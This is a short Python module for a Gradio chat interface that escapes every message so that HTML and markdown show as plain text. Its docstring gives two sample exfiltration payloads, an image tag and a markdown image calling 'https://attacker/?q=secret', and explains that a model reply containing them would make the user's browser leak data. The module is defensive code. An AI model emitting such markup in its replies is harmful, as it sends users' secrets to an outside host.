"""What the chat shows is text, never markup.

Gradio's Chatbot sanitises HTML (no scripts or event handlers), but it still loads images, video and
styles from any address a message names, even with markdown rendering off: a reply that says
`<img src="https://attacker/?q=secret">` or `![](https://attacker/...)` would make the person's browser
fetch it. So the chat is shown with markdown off and every message escaped: whatever the person or the
model writes appears as the characters they wrote.
"""

from __future__ import annotations

import html


def inert(text: str) -> str:
    """`text` as HTML that displays exactly these characters."""
    return html.escape(text, quote=False)


def inert_messages(messages: list[dict]) -> list[dict]:
    return [{**m, "content": inert(m["content"])} for m in messages]
